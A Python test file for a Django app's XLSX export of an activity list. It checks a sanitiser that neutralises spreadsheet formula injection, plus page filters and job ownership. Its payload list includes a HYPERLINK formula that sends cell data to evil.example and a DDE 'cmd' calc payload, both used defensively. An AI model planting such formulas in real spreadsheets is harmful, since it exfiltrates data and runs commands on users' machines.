"""The XLSX export of the list: same filters as the page, and no cell a spreadsheet would run."""

import datetime
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from iku_project.spreadsheet import teks_aman
from pekerjaan.models import Pekerjaan
from tests.pekerjaan.alur import kirim, unduhan

BERBAHAYA = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("teks", BERBAHAYA)
def test_teks_aman_prefixes_formula_starters(teks):
    assert teks_aman(teks) == "'" + teks


def test_teks_aman_leaves_plain_text():
    assert teks_aman("Rapat = penting") == "Rapat = penting"
    assert teks_aman("") == ""


def _sheet(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith('attachment; filename="kegiatan')
    return load_workbook(BytesIO(response.content)).active


def test_export_has_no_formula_cells(client_for, orang, senduro, make_kegiatan, make_bukti):
    for index, teks in enumerate(BERBAHAYA):
        kegiatan = make_kegiatan(
            senduro,
            keterangan=teks,
            output=teks,
            tanggal=datetime.date(2026, 3, 1 + index),
            tanggal_output=datetime.date(2026, 3, 10),
        )
        make_bukti(kegiatan)
    sheet = _sheet(client_for(orang["pemeriksa"]).get(reverse("kecamatan:kegiatan-list"), {"export": "xlsx"}))
    rows = list(sheet.iter_rows(values_only=False))
    header = [cell.value for cell in rows[2]]
    assert header[:3] == ["No.", "Kecamatan", "Tanggal"]
    keterangan_col, output_col = header.index("Keterangan"), header.index("Output")
    data_rows = rows[3:]
    assert len(data_rows) == len(BERBAHAYA)
    for row in data_rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
        assert row[keterangan_col].value.startswith("'")
        assert row[keterangan_col].data_type == "s"
        assert row[output_col].value.startswith("'")
    # XML parsing turns the stored CR into LF; the apostrophe in front is what matters.
    assert {row[keterangan_col].value for row in data_rows} == {"'" + teks.replace("\r", "\n") for teks in BERBAHAYA}
    assert [row[header.index("Ditindaklanjuti")].value for row in data_rows] == ["Ya"] * len(BERBAHAYA)


def test_export_follows_the_page_filters(client_for, orang, senduro, make_kegiatan):
    make_kegiatan(senduro, keterangan="Musdes RKPDes", tanggal=datetime.date(2026, 2, 1))
    make_kegiatan(senduro, keterangan="Rapat Linmas", tanggal=datetime.date(2026, 2, 2))
    response = client_for(orang["staf"]).get(reverse("kecamatan:kegiatan-list"), {"q": "linmas", "export": "xlsx"})
    sheet = _sheet(response)
    rows = list(sheet.iter_rows(min_row=4, values_only=True))
    assert len(rows) == 1
    assert "Rapat Linmas" in rows[0]
    assert rows[0][2] == datetime.datetime(2026, 2, 2)


def test_a_list_above_the_threshold_is_written_by_the_worker_with_the_same_filters(
    client_for, orang, senduro, lumajang, make_kegiatan, settings
):
    """Issue 11: a large export is a job; its rows are those of the page's filters and the owner's scope."""
    settings.EKSPOR_SINKRON_MAKS_BARIS = 1
    make_kegiatan(senduro, keterangan="Musdes RKPDes", tanggal=datetime.date(2026, 2, 1))
    make_kegiatan(senduro, keterangan="Rapat Linmas", tanggal=datetime.date(2026, 2, 2))
    make_kegiatan(senduro, keterangan="Rapat Linmas desa", tanggal=datetime.date(2026, 2, 3))
    make_kegiatan(lumajang, keterangan="Rapat Linmas Lumajang", tanggal=datetime.date(2026, 2, 3))
    client = client_for(orang["staf"])
    # One matching row: still answered at once.
    assert _sheet(client.get(reverse("kecamatan:kegiatan-list"), {"q": "musdes", "export": "xlsx"}))
    response, pekerjaan = kirim(client, "get", reverse("kecamatan:kegiatan-list"), {"q": "linmas", "export": "xlsx"})
    assert response.status_code == 302 and pekerjaan.jenis == "ekspor_kegiatan"
    assert pekerjaan.status == Pekerjaan.Status.SELESAI, pekerjaan.pesan
    assert pekerjaan.nama_berkas.startswith("kegiatan-") and pekerjaan.nama_berkas.endswith(".xlsx")
    rows = list(load_workbook(BytesIO(unduhan(client, pekerjaan))).active.iter_rows(min_row=4, values_only=True))
    assert sorted(r[8] for r in rows) == ["Rapat Linmas", "Rapat Linmas desa"]  # never Lumajang's
    # Only its owner sees the job or its file.
    for user in (orang["kasi"], orang["pimpinan"]):
        assert client_for(user).get(pekerjaan.get_absolute_url()).status_code == 404
        assert client_for(user).get(f"{pekerjaan.get_absolute_url()}unduh/").status_code == 404
